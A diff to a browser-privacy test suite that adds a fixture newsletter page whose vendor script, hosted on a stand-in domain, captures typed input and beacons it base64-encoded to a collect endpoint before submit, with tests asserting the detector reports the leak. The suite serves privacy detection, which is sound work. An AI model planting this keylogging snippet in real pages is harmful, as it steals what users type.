@@ -60,7 +60,7 @@ describe('BrowserTier (real Chromium, fixture web)', () => {
         if (path === '/logo.gif') return pixel(response);
         html(
           response,
-          '<!doctype html><html lang="en"><title>Plain</title><main><h1>Plain</h1><img src="/logo.gif" alt="logo"><p>Hello. <a href="/about">About</a> <a href="https://elsewhere.test/">Elsewhere</a></p></main></html>',
+          '<!doctype html><html lang="en"><title>Plain</title><main><h1>Plain</h1><img src="/logo.gif" alt="logo"><p>Hello. <a href="/about">About</a> <a href="https://elsewhere.test/">Elsewhere</a></p><input type="search" name="q" aria-label="Search"></main></html>',
         );
       },
       // A vendor script that fingerprints canvas, audio and fonts; the page's own small canvas does not count.
@@ -87,6 +87,23 @@ describe('BrowserTier (real Chromium, fixture web)', () => {
              await audio.startRendering();
            })();`,
         ),
+      // A newsletter form whose vendor script sends what is typed, before any submit.
+      'form.test': (_path, _request, response) =>
+        html(
+          response,
+          `<!doctype html><html lang="en"><title>Form</title><main><h1>Newsletter</h1>
+           <form action="/subscribe"><label>Email <input type="email" name="email"></label><button>Subscribe</button></form>
+           <script src="https://keylog-vendor.test/k.js"></script></main></html>`,
+        ),
+      'keylog-vendor.test': (path, _request, response) => {
+        if (path === '/collect') return void response.writeHead(204).end();
+        script(
+          response,
+          `document.addEventListener('input', (event) => {
+             navigator.sendBeacon('https://keylog-vendor.test/collect', JSON.stringify({ v: btoa(event.target.value) }));
+           });`,
+        );
+      },
       // A page whose load never ends: a script in the head that never answers.
       'slow.test': (path, _request, response) => {
         if (path === '/hang.js')
@@ -219,6 +236,7 @@ describe('BrowserTier (real Chromium, fixture web)', () => {
     expect(seen.trackers).toEqual([]);
     expect(seen.cookies).toEqual([]);
     expect(seen.innerLinks).toEqual(['http://plain.test/about']);
+    expect(seen.keyLogging).toEqual([]);
     expect(seen.fingerprinting).toEqual([]);
     expect(seen.accessibility).toMatchObject({
       violations: [],
@@ -248,6 +266,21 @@ describe('BrowserTier (real Chromium, fixture web)', () => {
       nodes: 1,
       examples: ['button'],
     });
+  }, 20_000);
+
+  it('sees typed text leave the page before any submit, and where it went', async () => {
+    const seen = await sut.observe('http://form.test/');
+
+    expect(seen.keyLogging).toEqual([
+      {
+        url: 'https://keylog-vendor.test/collect',
+        host: 'keylog-vendor.test',
+        thirdParty: true,
+        field: 'email',
+        encoding: 'base64',
+      },
+    ]);
+    expect(seen.requests.some((r) => r.url.includes('/subscribe'))).toBe(false);
   }, 20_000);
 
   it('finds the same trackers, cookies and fingerprinting on every run of the same page', async () => {
